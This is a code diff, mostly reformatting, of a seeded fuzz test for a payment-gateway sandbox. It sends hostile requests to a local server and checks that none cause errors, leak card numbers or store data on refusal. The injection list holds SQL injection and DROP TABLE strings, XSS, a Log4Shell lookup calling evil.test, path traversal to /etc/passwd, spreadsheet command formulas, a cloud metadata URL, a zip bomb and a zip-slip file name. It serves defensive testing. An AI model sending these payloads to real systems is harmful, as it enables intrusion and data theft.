@@ -19,7 +19,17 @@ import { buildRequest, requestExamples, SANDBOX_ACCESS_TOKEN } from '../../contr
 import { operations, type ContractOperation } from '../../generated/operations.ts';
 import { findCardNumber } from '../../server-stubs/core/answer.ts';
 import type { GatewayRequest } from '../../server-stubs/index.ts';
-import { counts, FOREIGN_CARD, hardeningSandbox, merchant, purchase, send, signed, storedCard, BATCH_HEADER } from './support.ts';
+import {
+  counts,
+  FOREIGN_CARD,
+  hardeningSandbox,
+  merchant,
+  purchase,
+  send,
+  signed,
+  storedCard,
+  BATCH_HEADER,
+} from './support.ts';
 
 const SEED = 20261123;
 const RUNS_PER_OPERATION = 60;
@@ -35,11 +45,27 @@ beforeAll(async () => {
   await once(server, 'listening');
   port = (server.address() as AddressInfo).port;
   // State for the examples' identifiers to meet, so that mutated requests reach deep into handlers.
-  await sb.store.run('INSERT INTO access_tokens (token, merchant_id, amount, currency, expires_at) VALUES (?, ?, ?, ?, ?)', SANDBOX_ACCESS_TOKEN, merchant.merchantUUID, '10.00', 'AUD', '2999-01-01 00:00:00');
+  await sb.store.run(
+    'INSERT INTO access_tokens (token, merchant_id, amount, currency, expires_at) VALUES (?, ?, ?, ?, ?)',
+    SANDBOX_ACCESS_TOKEN,
+    merchant.merchantUUID,
+    '10.00',
+    'AUD',
+    '2999-01-01 00:00:00',
+  );
   await storedCard(sb);
   await send(sb, signed('processCard', purchase()));
-  await send(sb, signed('createPayId', { payId: 'jane-1001@merchant.payid.test', name: 'Jane Citizen', reference: 'CUST-1001' }));
-  await send(sb, signed('createAgreement', { payer: { name: 'Jane', account: { name: 'Jane', bsb: '802950', accountNumber: '123321' } }, agreement: { arrangement: 'Gym', payment: { type: 'BALN', frequency: 'ADHO', maximum: 200, pointInTime: 4 } } }));
+  await send(
+    sb,
+    signed('createPayId', { payId: 'jane-1001@merchant.payid.test', name: 'Jane Citizen', reference: 'CUST-1001' }),
+  );
+  await send(
+    sb,
+    signed('createAgreement', {
+      payer: { name: 'Jane', account: { name: 'Jane', bsb: '802950', accountNumber: '123321' } },
+      agreement: { arrangement: 'Gym', payment: { type: 'BALN', frequency: 'ADHO', maximum: 200, pointInTime: 4 } },
+    }),
+  );
 });
 afterAll(async () => {
   agent.destroy();
@@ -57,12 +83,21 @@ interface Raw {
 
 function request(raw: Raw): Promise<{ status: number; type: string; body: Buffer }> {
   return new Promise((resolve, reject) => {
-    const headers = Object.fromEntries(Object.entries(raw.headers).filter(([, v]) => v !== undefined)) as Record<string, string>;
+    const headers = Object.fromEntries(Object.entries(raw.headers).filter(([, v]) => v !== undefined)) as Record<
+      string,
+      string
+    >;
     if (raw.body !== undefined) headers['content-length'] = String(Buffer.byteLength(raw.body as string));
     const req = http.request({ agent, host: '127.0.0.1', port, method: raw.verb, path: raw.url, headers }, (res) => {
       const chunks: Buffer[] = [];
       res.on('data', (c: Buffer) => chunks.push(c));
-      res.on('end', () => resolve({ status: res.statusCode!, type: String(res.headers['content-type'] ?? ''), body: Buffer.concat(chunks) }));
+      res.on('end', () =>
+        resolve({
+          status: res.statusCode!,
+          type: String(res.headers['content-type'] ?? ''),
+          body: Buffer.concat(chunks),
+        }),
+      );
       res.on('error', reject);
     });
     req.on('error', reject);
@@ -77,18 +112,50 @@ const deep = (n: number): unknown => {
 };
 
 const INJECTIONS = [
+  "' OR '1'='1",
+  '"; DROP TABLE transactions; --',
+  '<script>alert(1)</script>',
   // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, sent as the literal text it is
-  "' OR '1'='1", '"; DROP TABLE transactions; --', '<script>alert(1)</script>', '${jndi:ldap://evil.test/x}', '{{7*7}}',
-  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2f', '\u0000', 'a\u0000b', '\ud800', '\udfff\ud800', '🙂'.repeat(40),
-  '\u202eevil', '=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|', '+1+1', '-2+3', '\t=1', FOREIGN_CARD, '4564 7100 0000 0004', `ref ${FOREIGN_CARD}`,
-  'x'.repeat(70_000), '', ' ', 'null', 'true', '1e309', 'NaN', '-0', '0x10', '１２３', 'http://169.254.169.254/latest/meta-data',
+  '${jndi:ldap://evil.test/x}',
+  '{{7*7}}',
+  '../../../../etc/passwd',
+  '..\\..\\windows\\win.ini',
+  '%2e%2e%2f%2e%2e%2f',
+  '\u0000',
+  'a\u0000b',
+  '\ud800',
+  '\udfff\ud800',
+  '🙂'.repeat(40),
+  '\u202eevil',
+  "=cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd|',
+  '+1+1',
+  '-2+3',
+  '\t=1',
+  FOREIGN_CARD,
+  '4564 7100 0000 0004',
+  `ref ${FOREIGN_CARD}`,
+  'x'.repeat(70_000),
+  '',
+  ' ',
+  'null',
+  'true',
+  '1e309',
+  'NaN',
+  '-0',
+  '0x10',
+  '１２３',
+  'http://169.254.169.254/latest/meta-data',
 ];
 
 const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
   { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
   { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
   { weight: 1, arbitrary: fc.string({ maxLength: 300 }) },
-  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constantFrom(0, -1, 1e308, -1e308, 5e-324, 2 ** 53 + 1)) },
+  {
+    weight: 1,
+    arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constantFrom(0, -1, 1e308, -1e308, 5e-324, 2 ** 53 + 1)),
+  },
   { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}, deep(300), { method: 'processBatch' }) },
   { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
 );
@@ -102,7 +169,13 @@ const batchFiles = (() => {
   const b64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64');
   return [
     b64(zipSync({ 'b.csv': bomb }, { level: 9 })),
-    b64(zipSync({ 'b.csv': strToU8(`${BATCH_HEADER}\n"R\n9,forged,1.00,0,ok",5.00,AUD,=1+1,KOCI1,k\nR-2,1e309,AUD,${FOREIGN_CARD},x,y\n`) })),
+    b64(
+      zipSync({
+        'b.csv': strToU8(
+          `${BATCH_HEADER}\n"R\n9,forged,1.00,0,ok",5.00,AUD,=1+1,KOCI1,k\nR-2,1e309,AUD,${FOREIGN_CARD},x,y\n`,
+        ),
+      }),
+    ),
     b64(zipSync({ 'a.csv': strToU8('x'), 'b.csv': strToU8('y') })),
     b64(zipSync({ '../../etc/passwd.csv': strToU8(`${BATCH_HEADER}\n`) })),
     b64(strToU8('PK\u0003\u0004 not really a zip')),
@@ -116,7 +189,11 @@ type Mutation =
   | { kind: 'add'; name: string; value: unknown }
   | { kind: 'drop'; key: number }
   | { kind: 'replace'; value: unknown }
-  | { kind: 'text'; how: 'truncate' | 'duplicate' | 'infinity' | 'utf8' | 'huge' | 'nested' | 'garbage' | 'empty' | 'type'; at: number }
+  | {
+      kind: 'text';
+      how: 'truncate' | 'duplicate' | 'infinity' | 'utf8' | 'huge' | 'nested' | 'garbage' | 'empty' | 'type';
+      at: number;
+    }
   | { kind: 'param'; value: string; raw: boolean }
   | { kind: 'query'; name: string; value: string }
   | { kind: 'header'; name: string; value: string }
@@ -124,13 +201,67 @@ type Mutation =
 
 const mutation: fc.Arbitrary<Mutation> = fc.oneof(
   { weight: 5, arbitrary: fc.record({ kind: fc.constant('set' as const), key: fc.nat(), value: hostileValue }) },
-  { weight: 1, arbitrary: fc.record({ kind: fc.constant('add' as const), name: fc.constantFrom('__proto__', 'constructor', 'x', 'custom1', 'transactionProduct', 'notifyURL', 'method'), value: hostileValue }) },
+  {
+    weight: 1,
+    arbitrary: fc.record({
+      kind: fc.constant('add' as const),
+      name: fc.constantFrom('__proto__', 'constructor', 'x', 'custom1', 'transactionProduct', 'notifyURL', 'method'),
+      value: hostileValue,
+    }),
+  },
   { weight: 1, arbitrary: fc.record({ kind: fc.constant('drop' as const), key: fc.nat() }) },
   { weight: 1, arbitrary: fc.record({ kind: fc.constant('replace' as const), value: hostileValue }) },
-  { weight: 3, arbitrary: fc.record({ kind: fc.constant('text' as const), how: fc.constantFrom('truncate', 'duplicate', 'infinity', 'utf8', 'huge', 'nested', 'garbage', 'empty', 'type'), at: fc.nat() }) },
-  { weight: 2, arbitrary: fc.record({ kind: fc.constant('param' as const), value: fc.constantFrom('..', '../../etc/passwd', '%2e%2e%2f', '%00', '%ZZ', 'a%2Fb', FOREIGN_CARD, "' OR 1=1 --", 'x'.repeat(5000), '🙂'), raw: fc.boolean() }) },
-  { weight: 1, arbitrary: fc.record({ kind: fc.constant('query' as const), name: fc.constantFrom('status', 'from', 'to', 'agreementIdentification', 'x', '__proto__'), value: fc.constantFrom(...INJECTIONS.slice(0, 20)) }) },
-  { weight: 1, arbitrary: fc.record({ kind: fc.constant('header' as const), name: fc.constantFrom('content-type', 'svc-api-version', 'svc-merchantid', 'svc-apikey', 'svc-messagehash'), value: fc.constantFrom('text/plain', 'application/json; charset=utf-16', '2.0 ', '1.0', '', 'x'.repeat(2000), FOREIGN_CARD) }) },
+  {
+    weight: 3,
+    arbitrary: fc.record({
+      kind: fc.constant('text' as const),
+      how: fc.constantFrom('truncate', 'duplicate', 'infinity', 'utf8', 'huge', 'nested', 'garbage', 'empty', 'type'),
+      at: fc.nat(),
+    }),
+  },
+  {
+    weight: 2,
+    arbitrary: fc.record({
+      kind: fc.constant('param' as const),
+      value: fc.constantFrom(
+        '..',
+        '../../etc/passwd',
+        '%2e%2e%2f',
+        '%00',
+        '%ZZ',
+        'a%2Fb',
+        FOREIGN_CARD,
+        "' OR 1=1 --",
+        'x'.repeat(5000),
+        '🙂',
+      ),
+      raw: fc.boolean(),
+    }),
+  },
+  {
+    weight: 1,
+    arbitrary: fc.record({
+      kind: fc.constant('query' as const),
+      name: fc.constantFrom('status', 'from', 'to', 'agreementIdentification', 'x', '__proto__'),
+      value: fc.constantFrom(...INJECTIONS.slice(0, 20)),
+    }),
+  },
+  {
+    weight: 1,
+    arbitrary: fc.record({
+      kind: fc.constant('header' as const),
+      name: fc.constantFrom('content-type', 'svc-api-version', 'svc-merchantid', 'svc-apikey', 'svc-messagehash'),
+      value: fc.constantFrom(
+        'text/plain',
+        'application/json; charset=utf-16',
+        '2.0 ',
+        '1.0',
+        '',
+        'x'.repeat(2000),
+        FOREIGN_CARD,
+      ),
+    }),
+  },
   { weight: 1, arbitrary: fc.record({ kind: fc.constant('batch' as const), file: fc.nat(batchFiles.length - 1) }) },
 );
 
@@ -145,21 +276,32 @@ function hostile(op: ContractOperation, m: Mutation, sign: boolean): Raw {
   let params = pathParams(op);
   let query: Record<string, string> | undefined;
   const keys = example ? Object.keys(example) : [];
-  if (example && m.kind === 'set' && keys.length) (example as Record<string, unknown>)[keys[m.key % keys.length]!] = m.value;
-  if (example && m.kind === 'add') Object.defineProperty(example, m.name, { value: m.value, enumerable: true, configurable: true, writable: true });
-  if (example && m.kind === 'drop' && keys.length) delete (example as Record<string, unknown>)[keys[m.key % keys.length]!];
+  if (example && m.kind === 'set' && keys.length)
+    (example as Record<string, unknown>)[keys[m.key % keys.length]!] = m.value;
+  if (example && m.kind === 'add')
+    Object.defineProperty(example, m.name, { value: m.value, enumerable: true, configurable: true, writable: true });
+  if (example && m.kind === 'drop' && keys.length)
+    delete (example as Record<string, unknown>)[keys[m.key % keys.length]!];
   if (m.kind === 'replace') body = m.value;
   if (m.kind === 'batch' && example) (example as Record<string, unknown>).batchFile = batchFiles[m.file];
-  if (m.kind === 'param' && !m.raw && Object.keys(params).length) params = Object.fromEntries(Object.keys(params).map((k) => [k, decodeURIComponentSafe(m.value)]));
+  if (m.kind === 'param' && !m.raw && Object.keys(params).length)
+    params = Object.fromEntries(Object.keys(params).map((k) => [k, decodeURIComponentSafe(m.value)]));
   if (m.kind === 'query') query = { [m.name]: m.value };
 
   let built: GatewayRequest;
   try {
     const isObject = body !== null && typeof body === 'object' && !Array.isArray(body);
-    built = sign && isObject ? signed(op.operationId, body as Record<string, unknown>, { params, ...(query ? { query } : {}) }) : buildRequest(op, { body, params, ...(query ? { query } : {}) });
+    built =
+      sign && isObject
+        ? signed(op.operationId, body as Record<string, unknown>, { params, ...(query ? { query } : {}) })
+        : buildRequest(op, { body, params, ...(query ? { query } : {}) });
   } catch {
     built = buildRequest(op, { params });
-    built = { ...built, body: JSON.stringify(body ?? null), headers: { ...built.headers, 'content-type': 'application/json' } };
+    built = {
+      ...built,
+      body: JSON.stringify(body ?? null),
+      headers: { ...built.headers, 'content-type': 'application/json' },
+    };
   }
   const raw: Raw = { verb: built.verb, url: built.url, headers: { ...built.headers }, body: built.body };
   if (m.kind === 'param' && m.raw && Object.keys(pathParams(op)).length) {
@@ -175,7 +317,11 @@ function hostile(op: ContractOperation, m: Mutation, sign: boolean): Raw {
       truncate: text.slice(0, cut),
       duplicate: text.replace(/^\{("[^"]+"):("[^"]*"|[^,}]*)/, '{$1:$2,$1:"second"'),
       infinity: text.replace(/\}$/, ',"amount":1e309}').replace(/:(\d+(\.\d+)?)([,}])/, ':1e309$3'),
-      utf8: Buffer.concat([Buffer.from(text.slice(0, cut)), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(text.slice(cut))]) as Uint8Array,
+      utf8: Buffer.concat([
+        Buffer.from(text.slice(0, cut)),
+        Buffer.from([0xc3, 0x28, 0xff]),
+        Buffer.from(text.slice(cut)),
+      ]) as Uint8Array,
       huge: text.replace(/\}$/, `,"custom1":"${'x'.repeat(1_100_000)}"}`),
       nested: `{"method":"processBatch","x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
       garbage: `${text}}}]]`,
@@ -211,7 +357,10 @@ describe('hostile input over every operation (seeded)', () => {
   const failures: string[] = [];
 
   it(`${RUNS_PER_OPERATION} hostile requests per operation: no 5xx, no leak, no refusal that stores`, async () => {
-    const plan = fc.sample(fc.tuple(mutation, fc.boolean()), { seed: SEED, numRuns: operations.length * RUNS_PER_OPERATION });
+    const plan = fc.sample(fc.tuple(mutation, fc.boolean()), {
+      seed: SEED,
+      numRuns: operations.length * RUNS_PER_OPERATION,
+    });
     let i = 0;
     for (const op of operations) {
       for (let r = 0; r < RUNS_PER_OPERATION; r++) {
@@ -247,7 +396,9 @@ describe('hostile input over every operation (seeded)', () => {
         }
         if (refused && JSON.stringify(await counts(sb)) !== JSON.stringify(before)) {
           stats.storedByRefusal++;
-          failures.push(`${op.operationId} ${JSON.stringify(m).slice(0, 160)}: a refusal stored (${text.slice(0, 120)})`);
+          failures.push(
+            `${op.operationId} ${JSON.stringify(m).slice(0, 160)}: a refusal stored (${text.slice(0, 120)})`,
+          );
         }
       }
     }
